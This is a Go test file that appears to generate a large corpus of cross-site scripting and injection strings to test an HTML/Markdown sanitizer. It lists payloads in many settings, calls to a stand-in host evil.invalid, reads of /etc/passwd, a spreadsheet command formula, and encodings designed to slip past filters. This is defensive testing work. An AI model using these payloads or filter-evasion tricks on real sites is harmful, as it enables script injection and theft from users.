package test

import (
	"bufio"
	"encoding/base64"
	"fmt"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"
	"unicode"

	"passerelle/internal/trial"
)

// corpusVariable names a file of further hostile strings, one a line.
const corpusVariable = "PASSERELLE_HOSTILE"

// deeds are what the scripts of hostile strings do. Each is noticed: by a
// global, the title, a dialog or a request to another host.
var deeds = []string{
	`window.pwned=1`, `alert(1)`, `document.title='pwned'`, `import('//evil.invalid/pwned.js')`, `new Image().src='//evil.invalid/pwned'`,
}

// settings are what hostile strings are made for: where a text could stand, and
// what would then begin there. § is the deed.
var settings = []string{
	// HTML text
	`<script>§</script>`, `<img src=x onerror=§>`, `<svg onload=§>`, `<iframe srcdoc="<script>§</script>"></iframe>`, `<details open ontoggle=§>`,
	`<object data="javascript:§"></object>`, `<form action="javascript:§"><button autofocus onfocus=§>pwned`, `<input autofocus onfocus=§>`,
	`<video><source onerror=§></video>`, `<marquee onstart=§>pwned</marquee>`, `<body onload=§>`, `<x contenteditable autofocus onfocus=§ tabindex=1>`,
	`<template><script>§</script></template>`, `<div popover id=pwned onbeforetoggle=§></div>`, `<a href=javascript:§>pwned</a>`, `<link rel=stylesheet href=//evil.invalid/pwned.css>`,
	// attributes, quoted and not, and breaking out of a tag
	`" onmouseover="§" pwned="`, `' onfocus='§' autofocus pwned='`, ` onpointerenter=§ pwned=`, `"><script>§</script>`, `'><img src=x onerror=§>`,
	`"/><svg/onload=§>`, "` onload=§ `", `x" style="background:url(//evil.invalid/pwned)" x="`, `" autofocus onfocus=§ id="main`, `">pwned<a href="`,
	// addresses
	`javascript:§`, `javascript://example.net/%0a§`, `JaVaScRiPt:§`, ` javascript:§`, "java\tscript:§", "java\nscript:§", `javascript&colon;§`, `&#106;avascript:§`,
	`vbscript:pwned`, `data:text/html,<script>§</script>`, `data:text/html;base64,⟦<script>§</script>⟧`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>`,
	`//evil.invalid/pwned`, `http://evil.invalid/pwned`, `\\evil.invalid\pwned`, `https://user:pass@evil.invalid/`, `view-source:javascript:§`, `blob:https://evil.invalid/pwned`, `file:///etc/passwd`,
	`https://example.net/" onmouseover="§`, `https://example.net/'onmouseover='§`, `https://example.net/?a=1&b=<script>§</script>`, `https://example.net/#javascript:§`,
	`https://example.net/(§)`, `https://example.net/;§//`, `https://example.net/%22onload=§`, `https://example.net/&quot;onload=§`, `mailto:a@example.net?body=§`,
	`pwned@example.net`, `pwned@example.net"onload=§`, `pwned@example.net#§`, `pwned+§@example.net`,
	// sets of pictures, styles
	`pwned.png 1x, //evil.invalid/pwned 2x`, `<img srcset="//evil.invalid/pwned 1x" alt="">`, `<style>@import '//evil.invalid/pwned.css';</style>`, `</style><script>§</script>`,
	`expression(§)`, `background:url(javascript:§)`, `red;background-image:url(//evil.invalid/pwned)`, `<p style="position:fixed;inset:0;background:red">pwned</p>`,
	// drawings and formulas
	`<svg><script>§</script></svg>`, `<svg><animate onbegin=§ attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:§"><text y=9>pwned</text></a></svg>`, `<svg><use href="data:image/svg+xml,pwned#x"></svg>`,
	`<svg><foreignObject><img src=x onerror=§></foreignObject></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=§>`, `<math href="javascript:§">pwned</math>`, `</title></svg><script>§</script>`,
	`<svg><desc><noscript></desc><script>§</script>`, `<set attributeName=onload to=§>`,
	// out of comments and of elements whose content is text
	`--><script>§</script><!--`, `--!><script>§</script>`, `<!--><script>§</script>`, `<!-- pwned`, `<![CDATA[<script>§</script>]]>`, `<?xml version="1.0"?><script>§</script>`,
	`</title><script>§</script>`, `</textarea><script>§</script>`, `</script><script>§</script>`, `</noscript><img src=x onerror=§>`, `</main></body></html><script>§</script>`, `<plaintext>pwned`, `<noscript><p title="</noscript><img src=x onerror=§>">`,
	// data in scripts, strings and templates of scripts
	`"}]}</script><script>§</script>`, `"};§;({"a":"`, `\u003cscript\u003e§`, `";§;//`, `';§;//`, `\";§;//`, `\\";§//`, `${§}`, "`+§+`", "`;§;`", `*/§/*`, `")});§;passerelle("x",("`, `]);§;([`, "\u2028§//", `__proto__`, `constructor.constructor('§')()`, `{"__proto__":{"pwned":1}}`,
	// elements of the head
	`<meta http-equiv=refresh content="0;url=//evil.invalid/pwned">`, `<meta http-equiv=refresh content="0;url=javascript:§">`, `<base href="//evil.invalid/">`, `<link rel=prefetch href="//evil.invalid/pwned">`, `0;url=//evil.invalid/pwned`,
	// templates of Go and Hugo
	`{{ "pwned" | safeHTML }}`, `{{ printf "<script>§</script>" | safeHTML }}`, `{{< pwned >}}`, `{{% pwned %}}`, `{{</* pwned */>}}`, `{{- end -}}`, `{{ template "head" . }}`, `{{/* pwned */}}`, `{{ readFile "/etc/passwd" }}`, `[[ pwned ]]`, `<no value>`, `ZgotmplZ`, `%!s(string=pwned)`, `%s%d%v%[1]s%*d`, `{ pwned }`, `{{`, `}}`,
	// Markdown
	`[pwned](javascript:§)`, `[pwned](https://evil.invalid/"onmouseover="§)`, `[pwned](https://evil.invalid/ "title")`, `[pwned](<javascript:§>)`, `![pwned](//evil.invalid/pwned)`, `![pwned](https://evil.invalid/pwned.png)`, `[pwned][1] [1]: javascript:§`, `[1]: https://evil.invalid/ 'pwned'`,
	`<javascript:§>`, `<https://evil.invalid/pwned>`, "```html\n<script>§</script>\n```", "~~~\n</code></pre><script>§</script>", "    <script>§</script>", `# pwned {onclick="§"}`, `## pwned {#main .pwned onmouseover=§}`, `[pwned](https://example.net/){onclick=§}`, `+++ title = "pwned" +++`, `--- title: pwned ---`,
	`*pwned](https://example.net/*`, `[*pwned*](https://example.net/)`, `[<script>§</script>](https://example.net/)`, `*<script>§</script>*`, `[a](https://example.net/')[b](https://example.net/"onload=§)`, `:pwned: https://evil.invalid/ www.evil.invalid`,
	// formulas of spreadsheets
	`=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.invalid/pwned","x")`, `+1+pwned`, `-1-pwned`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, `;=1+1`, `,"=1+1"`, `"=1+1`, `'=1+1`, `＝1+1`, `＠SUM(1)`, `pwned","=1+1`, "pwned\n=1+1", "pwned\r\n=1+1",
	// what scripts of the site put together
	`$& $' $1 pwned`, `[n] [q] [w] [v] [l] pwned`, `a|b|pwned`, `a|=b=c pwned`, `pwned # {n}`, `x>1,2 pwned`, `"pwned"`, `\n\t\u0041 pwned`,
	// what Unicode can pretend
	`＜script＞§＜/script＞`, "‹script›§‹/script›", "\u202epwned", "pw\u200bned", "\ufeffpwned", "pwned\u2029", "\u00a0pwned\u3000", "ﬃ ſ K ı İ ß pwned", "p\u0301wned́", "é pwned", "\ufffd pwned", "\U0001F600 pwned", "𝐩𝐰𝐧𝐞𝐝", "ªpwned", "ǅ pwned", "\U000e0041pwned", "\ue000pwned", "％3Cscript％3E", "pwned\x00", "pw\x0bned\x0c", "\x1b[31mpwned", "\x7fpwned", "\u0085pwned", "\ud7ffpwned\uffff", "pwned\xc0\xbcscript\xc0\xbe", "\xed\xa0\x80pwned", "\xffpwned", "%C0%BCscript%C0%BE pwned", "+ADw-script+AD4-§+ADw-/script+AD4-",
}

// disguises are the ways to write a hostile string so that a filter misses it.
var disguises = []struct {
	name string
	of   func(s string) string
}{
	{"raw", func(s string) string { return s }},
	{"decimal", marks(func(r rune) string { return fmt.Sprintf("&#%d;", r) })},
	{"hexadecimal, unfinished", marks(func(r rune) string { return fmt.Sprintf("&#x%05X", r) })},
	{"named", strings.NewReplacer(
		"&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;", "'", "&apos;", ":", "&colon;", "(", "&lpar;", ")", "&rpar;", "/", "&sol;", "=", "&equals;", "\t", "&Tab;", "\n", "&NewLine;").Replace},
	{"percent", func(s string) string { return url.PathEscape(s) }},
	{"percent, twice", func(s string) string { return url.PathEscape(url.PathEscape(s)) }},
	{"backslash", marks(func(r rune) string { return fmt.Sprintf(`\u%04x`, r) })},
	{"backslash, short", marks(func(r rune) string { return fmt.Sprintf(`\x%02x`, r) })},
	{"style", marks(func(r rune) string { return fmt.Sprintf(`\%x `, r) })},
	{"mixed case", mixed},
	{"doubled", marks(func(r rune) string { return string(r) + string(r) })},
	{"in itself", func(s string) string {
		r := []rune(s)
		return string(r[:len(r)/2]) + s + string(r[len(r)/2:])
	}},
	{"split by spaces", func(s string) string { return parted(s, "\u00a0", "\u3000", "\t") }},
	{"split by lines", func(s string) string { return parted(s, "\n", "\r\n") }},
	{"split by marks", func(s string) string { return parted(s, "\u034f", "\u00b7", "\u3164") }},
	{"split by nothing", func(s string) string { return parted(s, "\x00", "\u200b", "\u00ad") }},
	{"full width", func(s string) string {
		return strings.Map(func(r rune) rune {
			if r > ' ' && r < 0x7f {
				return r + 0xfee0
			}
			return r
		}, s)
	}},
	{"after words", func(s string) string { return "Nord & Sud, l’été : " + s }},
	{"before words", func(s string) string { return s + " – words « and » more" }},
	{"as a page", func(s string) string {
		return "data:text/html;base64," + base64.StdEncoding.EncodeToString([]byte(s))
	}},
}

// marks returns a disguise that writes what is neither letter nor digit anew.
func marks(write func(r rune) string) func(string) string {
	return func(s string) string {
		var b strings.Builder
		for _, r := range s {
			if r > 0x7f || unicode.IsLetter(r) || unicode.IsDigit(r) {
				b.WriteRune(r)
			} else {
				b.WriteString(write(r))
			}
		}
		return b.String()
	}
}

func mixed(s string) string {
	upper := false
	return strings.Map(func(r rune) rune {
		if upper = !upper; upper {
			return unicode.ToUpper(r)
		}
		return unicode.ToLower(r)
	}, s)
}

// parted puts separators into the words of a text, in turn.
func parted(s string, separators ...string) string {
	var b strings.Builder
	n, last := 0, ' '
	for _, r := range s {
		if unicode.IsLetter(last) && unicode.IsLetter(r) && n%3 == 1 {
			b.WriteString(separators[n/3%len(separators)])
		}
		b.WriteRune(r)
		n, last = n+1, r
	}
	return b.String()
}

// dressed returns a setting with a deed in it.
func dressed(setting, deed string) string {
	s := strings.ReplaceAll(setting, "§", deed)
	if before, inner, ok := strings.Cut(s, "⟦"); ok {
		inner, after, _ := strings.Cut(inner, "⟧")
		s = before + base64.StdEncoding.EncodeToString([]byte(inner)) + after
	}
	return s
}

// plainly returns every setting without a disguise.
func plainly() []string {
	var list []string
	for _, setting := range settings {
		list = append(list, dressed(setting, deeds[0]))
	}
	return list
}

// hostile returns hostile strings, each once: all settings in all disguises,
// with one deed or another, or few of them, spread evenly; and those of the
// file that PASSERELLE_HOSTILE names.
func hostile(t testing.TB) []string {
	t.Helper()
	var all []string
	for i, setting := range settings {
		for j, disguise := range disguises {
			all = append(all, disguise.of(dressed(setting, deeds[(i+j)%len(deeds)])))
		}
	}
	var list []string
	seen := map[string]bool{}
	n := trial.Count(400, len(all))
	for i := range n { // a step that meets every setting and, as it shifts, every disguise
		s := all[i*len(all)/n]
		if !seen[s] {
			seen[s] = true
			list = append(list, s)
		}
	}
	if trial.Full() && len(list) < 2000 {
		t.Fatalf("only %d hostile strings", len(list))
	}
	if name := os.Getenv(corpusVariable); name != "" {
		list = slices.Concat(list, corpus(t, name, seen))
	}
	return list
}

// corpus reads the lines of a file that are not known.
func corpus(t testing.TB, name string, known map[string]bool) []string {
	t.Helper()
	f, err := os.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var list []string
	lines := bufio.NewScanner(f)
	lines.Buffer(nil, 1<<20)
	for lines.Scan() {
		if s := lines.Text(); strings.TrimSpace(s) != "" && !known[s] {
			known[s] = true
			list = append(list, s)
		}
	}
	if err := lines.Err(); err != nil {
		t.Fatal(err)
	}
	return list
}

// TestHostile shows that few strings are of every setting and every disguise.
func TestHostile(t *testing.T) {
	all := len(settings) * len(disguises)
	n := 400
	of := map[int]bool{}
	in := map[int]bool{}
	for i := range n {
		at := i * all / n
		of[at/len(disguises)], in[at%len(disguises)] = true, true
	}
	if len(of) != len(settings) || len(in) != len(disguises) {
		t.Errorf("few strings are of %d settings of %d, in %d disguises of %d", len(of), len(settings), len(in), len(disguises))
	}
	t.Logf("%d strings", len(hostile(t)))
}
